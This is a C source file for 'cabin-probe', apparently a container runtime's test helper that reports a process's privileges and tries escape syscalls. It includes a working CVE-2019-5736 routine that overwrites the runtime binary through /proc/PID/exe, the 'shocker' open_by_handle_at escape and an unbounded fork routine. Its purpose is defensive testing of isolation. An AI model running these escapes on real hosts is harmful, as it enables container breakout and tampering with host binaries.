/* SPDX-License-Identifier: Apache-2.0 */
/*
 * cabin-probe: a tiny static program the integration tests put inside a
 * container to report what the container's process really has, and to try
 * the escapes the runtime must stop.  It needs nothing from the rootfs (no
 * libc, no /proc unless a command says so) and prints `key=value` lines.
 *
 *   cabin-probe report             identity, the five capability sets,
 *                                  seccomp mode, no_new_privs, cwd, open
 *                                  fds and rlimits
 *   cabin-probe syscalls [NAME...] try each named attack syscall (all when
 *                                  none is named) in a child: NAME=ok, or
 *                                  NAME=<errno name>, or NAME=signal:N
 *                                  NAME nr:N makes the raw syscall
 *                                  number N with six zero arguments
 *                                  (e.g. nr:1000, which no kernel has)
 *   cabin-probe escape             does the cwd or an inherited directory
 *                                  fd reach a root that is not ours?
 *   cabin-probe read PATH          the file's first line, or error=ERRNO
 *   cabin-probe ro PATH...         PATH=ro|rw (statvfs)
 *   cabin-probe exe PID READY GO   CVE-2019-5736: open /proc/PID/exe
 *                                  (O_PATH), create READY, wait for GO,
 *                                  then reopen it for writing and write
 *
 * Exit status 0 unless the command itself could not run (usage: 2).
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef PR_CAP_AMBIENT
#define PR_CAP_AMBIENT        47
#define PR_CAP_AMBIENT_IS_SET 1
#endif

static const char *errname(int e)
{
    const char *n = strerrorname_np(e);
    return n ? n : "E?";
}

/* ---- report ------------------------------------------------------------- */

static int last_cap(void)
{
    int c = 0;
    while (c < 63 && prctl(PR_CAPBSET_READ, c + 1, 0, 0, 0) >= 0)
        c++;
    return c;
}

static void report_caps(void)
{
    struct __user_cap_header_struct h = {.version = _LINUX_CAPABILITY_VERSION_3};
    struct __user_cap_data_struct d[2] = {{0}};
    if (syscall(SYS_capget, &h, d) < 0) {
        printf("caps=error:%s\n", errname(errno));
        return;
    }
    uint64_t eff = d[0].effective | (uint64_t) d[1].effective << 32;
    uint64_t prm = d[0].permitted | (uint64_t) d[1].permitted << 32;
    uint64_t inh = d[0].inheritable | (uint64_t) d[1].inheritable << 32;
    uint64_t bnd = 0, amb = 0;
    int last = last_cap();
    for (int c = 0; c <= last; c++) {
        if (prctl(PR_CAPBSET_READ, c, 0, 0, 0) == 1)
            bnd |= 1ULL << c;
        if (prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_IS_SET, c, 0, 0) == 1)
            amb |= 1ULL << c;
    }
    printf("cap.inheritable=%016llx\n", (unsigned long long) inh);
    printf("cap.permitted=%016llx\n", (unsigned long long) prm);
    printf("cap.effective=%016llx\n", (unsigned long long) eff);
    printf("cap.bounding=%016llx\n", (unsigned long long) bnd);
    printf("cap.ambient=%016llx\n", (unsigned long long) amb);
}

/* Open fds, from the fd table itself (close_range-free: probe each). */
static void report_fds(void)
{
    printf("fds=");
    const char *sep = "";
    struct rlimit rl;
    long max =
        getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < 65536 ? (long) rl.rlim_cur : 65536;
    for (long fd = 0; fd < max; fd++)
        if (fcntl((int) fd, F_GETFD) >= 0) {
            printf("%s%ld", sep, fd);
            sep = ",";
        }
    printf("\n");
}

static void report(void)
{
    uid_t ru, eu, su;
    gid_t rg, eg, sg;
    getresuid(&ru, &eu, &su);
    getresgid(&rg, &eg, &sg);
    printf("uid=%u %u %u\n", ru, eu, su);
    printf("gid=%u %u %u\n", rg, eg, sg);
    gid_t groups[256];
    int n = getgroups(256, groups);
    printf("groups=");
    for (int i = 0; i < n; i++)
        printf("%s%u", i ? "," : "", groups[i]);
    printf("\n");
    report_caps();
    printf("seccomp=%d\n", prctl(PR_GET_SECCOMP, 0, 0, 0, 0));
    printf("nnp=%d\n", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
    char cwd[4096];
    printf("cwd=%s\n", getcwd(cwd, sizeof(cwd)) ? cwd : errname(errno));
    report_fds();
    static const struct {
        const char *name;
        int res;
    } rlims[] = {
        {"AS", RLIMIT_AS},
        {"CORE", RLIMIT_CORE},
        {"CPU", RLIMIT_CPU},
        {"DATA", RLIMIT_DATA},
        {"FSIZE", RLIMIT_FSIZE},
        {"LOCKS", RLIMIT_LOCKS},
        {"MEMLOCK", RLIMIT_MEMLOCK},
        {"MSGQUEUE", RLIMIT_MSGQUEUE},
        {"NICE", RLIMIT_NICE},
        {"NOFILE", RLIMIT_NOFILE},
        {"NPROC", RLIMIT_NPROC},
        {"RSS", RLIMIT_RSS},
        {"RTPRIO", RLIMIT_RTPRIO},
        {"RTTIME", RLIMIT_RTTIME},
        {"SIGPENDING", RLIMIT_SIGPENDING},
        {"STACK", RLIMIT_STACK},
    };
    for (size_t i = 0; i < sizeof(rlims) / sizeof(rlims[0]); i++) {
        struct rlimit rl;
        if (getrlimit(rlims[i].res, &rl) < 0)
            continue;
        printf("rlimit.%s=", rlims[i].name);
        if (rl.rlim_cur == RLIM_INFINITY)
            printf("unlimited ");
        else
            printf("%llu ", (unsigned long long) rl.rlim_cur);
        if (rl.rlim_max == RLIM_INFINITY)
            printf("unlimited\n");
        else
            printf("%llu\n", (unsigned long long) rl.rlim_max);
    }
}

/* ---- syscalls ----------------------------------------------------------- */

/* Each returns 0 or -errno.  They run in a child of their own: a call that
 * works may change the caller (a new namespace, a personality). */

static long ret(long r)
{
    return r < 0 ? -errno : 0;
}

static long child_exits(long r)
{
    if (r == 0)
        _exit(0); /* the clone's child */
    if (r > 0)
        waitpid((pid_t) r, NULL, 0);
    return ret(r);
}

static long a_unshare_user(void)
{
    return ret(unshare(CLONE_NEWUSER));
}
static long a_unshare_mnt(void)
{
    return ret(unshare(CLONE_NEWNS));
}
static long a_clone_newuser(void)
{
    return child_exits(syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
}
static long a_clone_newns(void)
{
    return child_exits(syscall(SYS_clone, CLONE_NEWNS | SIGCHLD, 0, 0, 0, 0));
}
static long a_clone(void)
{
    return child_exits(syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0));
}
static long a_clone3(void)
{
    uint64_t args[11] = {0};
    args[4] = SIGCHLD; /* struct clone_args.exit_signal */
    return child_exits(syscall(SYS_clone3, args, sizeof(args)));
}
/* A file system type that does not exist: with CAP_SYS_ADMIN the kernel
 * says ENODEV, so nothing is ever mounted. */
static long a_mount(void)
{
    return ret(mount("none", "/", "cabin-no-such-fs", 0, NULL));
}
static long a_umount(void)
{
    return ret(umount2("/cabin-probe-no-such-mount", 0));
}
static long a_setns(void)
{
    /* Re-enter our own uts namespace: harmless where it is allowed. */
    int pfd = (int) syscall(SYS_pidfd_open, getpid(), 0);
    if (pfd < 0)
        return -errno;
    return ret(setns(pfd, CLONE_NEWUTS));
}
static long a_keyctl(void)
{
    return ret(syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3, 0));
}
static long a_add_key(void)
{
    return ret(syscall(SYS_add_key, "user", "cabin-probe", "x", 1, -2 /* process keyring */));
}
static long a_request_key(void)
{
    return ret(syscall(SYS_request_key, "user", "cabin-probe-none", NULL, 0));
}
/* Flags no kernel accepts: EINVAL (or ENOSYS) when the call gets through. */
static long a_kexec_load(void)
{
    return ret(syscall(SYS_kexec_load, 0, 0, NULL, 0xffff0000UL));
}
static long a_ptrace(void)
{
    return ret(syscall(SYS_ptrace, 0 /* PTRACE_TRACEME */, 0, 0, 0));
}
static long a_kcmp(void)
{
    return ret(syscall(SYS_kcmp, getpid(), getpid(), 0 /* KCMP_FILE */, 0, 0));
}
static long a_pidfd_getfd(void)
{
    int pfd = (int) syscall(SYS_pidfd_open, getpid(), 0);
    if (pfd < 0)
        return -errno;
    return ret(syscall(SYS_pidfd_getfd, pfd, 0, 0));
}
static long a_process_vm_readv(void)
{
    char src[8] = "cabin", dst[8];
    struct iovec l = {dst, sizeof(dst)}, r = {src, sizeof(src)};
    return ret(syscall(SYS_process_vm_readv, getpid(), &l, 1, &r, 1, 0));
}
static long a_personality(void)
{
    return ret(syscall(SYS_personality, 0xffffffffUL));
}
static long a_personality_bad(void)
{
    return ret(syscall(SYS_personality, READ_IMPLIES_EXEC));
}
static long a_socket_vsock(void)
{
    return ret(socket(40 /* AF_VSOCK */, SOCK_STREAM, 0));
}
static long a_socket_unix(void)
{
    return ret(socket(AF_UNIX, SOCK_STREAM, 0));
}
static long a_userfaultfd(void)
{
    return ret(syscall(SYS_userfaultfd, O_CLOEXEC | 1 /* UFFD_USER_MODE_ONLY */));
}
static long a_chroot(void)
{
    return ret(chroot("/"));
}
static long a_bpf(void)
{
    char attr[128] = {0};
    return ret(syscall(SYS_bpf, 0 /* BPF_MAP_CREATE */, attr, sizeof(attr)));
}
static long a_open_by_handle_at(void)
{
    /* The "shocker" escape: open a file by handle, bypassing the root. */
    struct {
        struct file_handle h;
        unsigned char buf[128];
    } fh = {.h.handle_bytes = 128};
    int mnt;
    if (name_to_handle_at(AT_FDCWD, "/", &fh.h, &mnt, 0) < 0)
        return -errno;
    int dir = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    return ret(open_by_handle_at(dir, &fh.h, O_RDONLY | O_DIRECTORY));
}
static long a_delete_module(void)
{
    return ret(syscall(SYS_delete_module, "cabin_no_such_module", O_NONBLOCK));
}
static long a_sysfs(void)
{
    return ret(syscall(SYS_sysfs, 3));
}
static long a_set_mempolicy(void)
{
    return ret(syscall(SYS_set_mempolicy, 0, NULL, 0));
}
static long a_fsopen(void)
{
    return ret(syscall(SYS_fsopen, "tmpfs", 0));
}
static const char *self_path = "cabin-probe";

static long a_execve(void)
{
    /* exec ourselves with a command that exits at once */
    pid_t pid = fork();
    if (pid < 0)
        return -errno;
    if (pid == 0) {
        char *argv[] = {(char *) self_path, (char *) "true", NULL};
        execvp(self_path, argv);
        _exit(127);
    }
    int st;
    waitpid(pid, &st, 0);
    return WIFEXITED(st) && WEXITSTATUS(st) == 0 ? 0 : -ENOEXEC;
}

/* nr:N: the number is set by syscalls() before the child runs it. */
static long raw_nr;
static long a_raw(void)
{
    return ret(syscall(raw_nr, 0, 0, 0, 0, 0, 0));
}

static const struct {
    const char *name;
    long (*fn)(void);
} attacks[] = {
    {"unshare-user", a_unshare_user},
    {"unshare-mnt", a_unshare_mnt},
    {"clone", a_clone},
    {"clone-newuser", a_clone_newuser},
    {"clone-newns", a_clone_newns},
    {"clone3", a_clone3},
    {"mount", a_mount},
    {"umount", a_umount},
    {"setns", a_setns},
    {"keyctl", a_keyctl},
    {"add_key", a_add_key},
    {"request_key", a_request_key},
    {"kexec_load", a_kexec_load},
    {"ptrace", a_ptrace},
    {"kcmp", a_kcmp},
    {"pidfd_getfd", a_pidfd_getfd},
    {"process_vm_readv", a_process_vm_readv},
    {"personality", a_personality},
    {"personality-bad", a_personality_bad},
    {"socket-unix", a_socket_unix},
    {"socket-vsock", a_socket_vsock},
    {"userfaultfd", a_userfaultfd},
    {"chroot", a_chroot},
    {"bpf", a_bpf},
    {"open_by_handle_at", a_open_by_handle_at},
    {"delete_module", a_delete_module},
    {"sysfs", a_sysfs},
    {"set_mempolicy", a_set_mempolicy},
    {"fsopen", a_fsopen},
    {"execve", a_execve},
};

static void try_call(const char *name, long (*fn)(void));

static void try_one(size_t i)
{
    try_call(attacks[i].name, attacks[i].fn);
}

static void try_call(const char *name, long (*fn)(void))
{
    int p[2];
    if (pipe(p) < 0) {
        printf("%s=probe-error:%s\n", name, errname(errno));
        return;
    }
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) {
        close(p[0]);
        long r = fn();
        int e = (int) -r;
        if (write(p[1], &e, sizeof(e)) != sizeof(e))
            _exit(1);
        _exit(0);
    }
    close(p[1]);
    int e = 0;
    ssize_t n = pid > 0 ? read(p[0], &e, sizeof(e)) : -1;
    close(p[0]);
    int st = 0;
    if (pid > 0)
        waitpid(pid, &st, 0);
    if (n == sizeof(e))
        printf("%s=%s\n", name, e == 0 ? "ok" : errname(e));
    else if (pid > 0 && WIFSIGNALED(st))
        printf("%s=signal:%d\n", name, WTERMSIG(st));
    else
        printf("%s=probe-error\n", name);
}

static int syscalls(int argc, char **argv)
{
    size_t n = sizeof(attacks) / sizeof(attacks[0]);
    if (argc == 0) {
        for (size_t i = 0; i < n; i++)
            try_one(i);
        return 0;
    }
    for (int a = 0; a < argc; a++) {
        if (strncmp(argv[a], "nr:", 3) == 0) {
            char *end = NULL;
            errno = 0;
            raw_nr = strtol(argv[a] + 3, &end, 10);
            if (errno || end == argv[a] + 3 || *end || raw_nr < 0) {
                fprintf(stderr, "cabin-probe: bad syscall number `%s`\n", argv[a]);
                return 2;
            }
            try_call(argv[a], a_raw);
            continue;
        }
        size_t i = 0;
        while (i < n && strcmp(attacks[i].name, argv[a]) != 0)
            i++;
        if (i == n) {
            fprintf(stderr, "cabin-probe: unknown syscall test `%s`\n", argv[a]);
            return 2;
        }
        try_one(i);
    }
    return 0;
}

/* ---- escape ------------------------------------------------------------- */

/* Climb `..` from `fd` until it stops moving: the top we reach. */
static int top_of(int fd, struct stat *ret)
{
    int cur = dup(fd);
    if (cur < 0)
        return -1;
    struct stat st, up;
    if (fstat(cur, &st) < 0) {
        close(cur);
        return -1;
    }
    for (int i = 0; i < 256; i++) {
        int next = openat(cur, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (next < 0 || fstat(next, &up) < 0)
            break;
        close(cur);
        cur = next;
        if (up.st_dev == st.st_dev && up.st_ino == st.st_ino)
            break;
        st = up;
    }
    close(cur);
    *ret = st;
    return 0;
}

static int escape(void)
{
    struct stat root, top;
    if (stat("/", &root) < 0) {
        printf("escape=probe-error:%s\n", errname(errno));
        return 0;
    }
    int found = 0;
    int dot = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (dot >= 0 && top_of(dot, &top) == 0 &&
        (top.st_dev != root.st_dev || top.st_ino != root.st_ino)) {
        printf("escape=cwd reaches a root that is not ours\n");
        found = 1;
    }
    for (int fd = 3; fd < 1024; fd++) {
        struct stat st;
        if (fd == dot || fstat(fd, &st) < 0 || !S_ISDIR(st.st_mode))
            continue;
        if (top_of(fd, &top) == 0 && (top.st_dev != root.st_dev || top.st_ino != root.st_ino)) {
            printf("escape=fd %d reaches a root that is not ours\n", fd);
            found = 1;
        }
    }
    if (!found)
        printf("escape=none\n");
    return 0;
}

/* ---- files -------------------------------------------------------------- */

static int read_file(const char *path)
{
    FILE *f = fopen(path, "re");
    if (f == NULL) {
        printf("error=%s\n", errname(errno));
        return 0;
    }
    char line[4096];
    if (fgets(line, sizeof(line), f))
        printf("%s%s", line, line[strlen(line) - 1] == '\n' ? "" : "\n");
    else
        printf("empty\n");
    fclose(f);
    return 0;
}

static int ro(int argc, char **argv)
{
    for (int i = 0; i < argc; i++) {
        struct statvfs sv;
        if (statvfs(argv[i], &sv) < 0)
            printf("%s=error:%s\n", argv[i], errname(errno));
        else
            printf("%s=%s\n", argv[i], (sv.f_flag & ST_RDONLY) ? "ro" : "rw");
    }
    return 0;
}

/* CVE-2019-5736: keep /proc/PID/exe of a runtime process that entered the
 * container, wait until the runtime no longer runs it, then write through
 * the kept handle.  A runtime that runs from a sealed copy, or from a file
 * the container cannot reach, leaves the host's binary untouched. */
static int exe(const char *pid, const char *ready, const char *go)
{
    char path[64], link[4096];
    snprintf(path, sizeof(path), "/proc/%s/exe", pid);
    ssize_t n = readlink(path, link, sizeof(link) - 1);
    link[n > 0 ? n : 0] = '\0';
    printf("exe=%s\n", link);
    int fd = open(path, O_PATH | O_CLOEXEC);
    int e = errno;
    int r = open(ready, O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
    if (r >= 0)
        close(r);
    if (fd < 0) {
        printf("open=%s\nresult=blocked\n", errname(e));
        return 0;
    }
    for (int i = 0; i < 600 && access(go, F_OK) < 0; i++)
        usleep(50000);
    char self[64];
    snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
    int w = -1;
    for (int i = 0; i < 100; i++) {
        w = open(self, O_WRONLY | O_CLOEXEC);
        if (w >= 0 || errno != ETXTBSY)
            break;
        usleep(50000); /* the runtime may still be exiting */
    }
    if (w < 0) {
        printf("open-write=%s\nresult=blocked\n", errname(errno));
        return 0;
    }
    printf("open-write=ok\n");
    static const char payload[] = "#!/bin/sh\necho PWNED\n";
    ssize_t k = pwrite(w, payload, sizeof(payload) - 1, 0);
    if (k < 0) {
        printf("write=%s\nresult=blocked\n", errname(errno));
        return 0;
    }
    printf("write=ok\nresult=WROTE\n");
    return 0;
}

/* forks N: try N forks, each child waiting forever; report how many the
 * kernel allowed and refused (EAGAIN under a pids limit), then wait. */
static int forks(const char *count) __attribute__((noreturn));
static int forks(const char *count)
{
    long n = strtol(count, NULL, 10), made = 0, refused = 0, other = 0;
    for (long i = 0; i < n; i++) {
        pid_t pid = fork();
        if (pid == 0) {
            for (;;)
                pause();
        }
        if (pid > 0)
            made++;
        else if (errno == EAGAIN)
            refused++;
        else
            other++;
    }
    printf("forked=%ld refused=%ld other=%ld\n", made, refused, other);
    for (;;)
        pause();
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    self_path = argv[0];
    if (argc < 2) {
        fprintf(stderr, "usage: cabin-probe report|syscalls|escape|read|ro|exe|forks ...\n");
        return 2;
    }
    const char *cmd = argv[1];
    if (strcmp(cmd, "report") == 0)
        report();
    else if (strcmp(cmd, "syscalls") == 0)
        return syscalls(argc - 2, argv + 2);
    else if (strcmp(cmd, "escape") == 0)
        return escape();
    else if (strcmp(cmd, "read") == 0 && argc == 3)
        return read_file(argv[2]);
    else if (strcmp(cmd, "ro") == 0)
        return ro(argc - 2, argv + 2);
    else if (strcmp(cmd, "exe") == 0 && argc == 5)
        return exe(argv[2], argv[3], argv[4]);
    else if (strcmp(cmd, "forks") == 0 && argc == 3)
        return forks(argv[2]);
    else if (strcmp(cmd, "true") == 0)
        return 0;
    else {
        fprintf(stderr, "cabin-probe: unknown command `%s`\n", cmd);
        return 2;
    }
    return 0;
}
